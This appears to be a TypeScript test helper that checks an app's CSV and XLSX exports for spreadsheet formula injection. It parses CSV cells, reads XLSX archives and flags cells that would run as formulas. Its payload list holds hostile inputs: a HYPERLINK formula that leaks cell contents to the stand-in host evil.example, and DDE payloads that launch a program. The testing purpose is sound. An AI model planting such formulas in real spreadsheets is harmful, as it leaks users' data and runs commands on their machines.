import zlib from "node:zlib";
import { parseCsv } from "../../lib/csv/csv";

/*
 * Reading the CSV and XLSX files the app hands out, to look for cells a spreadsheet would run as a
 * formula (CSV injection, OWASP): a cell from user text that starts with = + - @, a tab or a
 * carriage return.
 */

/** Text that a spreadsheet runs when it starts a cell; each is put in front of user text. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
] as const;

let counter = 0;
/** User text with a formula payload in front of it; successive calls cycle through all payloads. */
export function withFormula(text: string): string {
  const payload = FORMULA_PAYLOADS[counter % FORMULA_PAYLOADS.length] as string;
  counter += 1;
  return `${payload}${text}`;
}

const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain number (a count, a percentage, a negative difference) may start with "-": not a formula. */
const NUMBER = /^-?\d+([.,]\d+)?%?$/;

export type CellReport = { dangerous: string[]; neutralised: number };

/** The cells of a CSV file that would run as a formula, and how many payloads were defused. */
export function csvCells(text: string): CellReport {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(`not a CSV file: unterminated quote on line ${parsed.line}`);
  const fields = parsed.records.flatMap((r) => r.fields);
  return {
    dangerous: fields.filter((f) => FORMULA_START.test(f) && !NUMBER.test(f)).map((f) => JSON.stringify(f)),
    neutralised: fields.filter((f) => /^'[=+\-@\t\r]/.test(f)).length,
  };
}

/** The files in a ZIP archive (an XLSX file is one), by name. */
export function unzip(archive: Buffer): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  const end = archive.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  if (end < 0) throw new Error("not a ZIP archive");
  const entries = archive.readUInt16LE(end + 10);
  let at = archive.readUInt32LE(end + 16);
  for (let i = 0; i < entries; i += 1) {
    const method = archive.readUInt16LE(at + 10);
    const size = archive.readUInt32LE(at + 20);
    const nameLength = archive.readUInt16LE(at + 28);
    const extraLength = archive.readUInt16LE(at + 30);
    const commentLength = archive.readUInt16LE(at + 32);
    const local = archive.readUInt32LE(at + 42);
    const name = archive.subarray(at + 46, at + 46 + nameLength).toString("utf8");
    const dataAt = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28);
    const data = archive.subarray(dataAt, dataAt + size);
    files.set(name, method === 0 ? Buffer.from(data) : zlib.inflateRawSync(data));
    at += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}

const decode = (xml: string) =>
  xml
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(Number.parseInt(n, 16)))
    .replace(/&amp;/g, "&");

/**
 * An XLSX file's formula cells (there must be none: user text is written as text, which a
 * spreadsheet never runs) and its text cells.
 */
export function xlsxCells(file: Buffer): { formulas: string[]; texts: string[] } {
  const files = unzip(file);
  const sheets = [...files.entries()].filter(([name]) => /^xl\/worksheets\/.*\.xml$/.test(name));
  if (sheets.length === 0) throw new Error("no worksheets in the XLSX file");
  const formulas = sheets.flatMap(([name, xml]) =>
    [...xml.toString("utf8").matchAll(/<f[\s>][\s\S]*?<\/f>|<f\/>/g)].map((m) => `${name}: ${m[0]}`),
  );
  const xmlTexts = [
    files.get("xl/sharedStrings.xml")?.toString("utf8") ?? "",
    ...sheets.map(([, xml]) => xml.toString("utf8")),
  ].join("");
  const texts = [...xmlTexts.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) => decode(m[1] as string));
  return { formulas, texts };
}
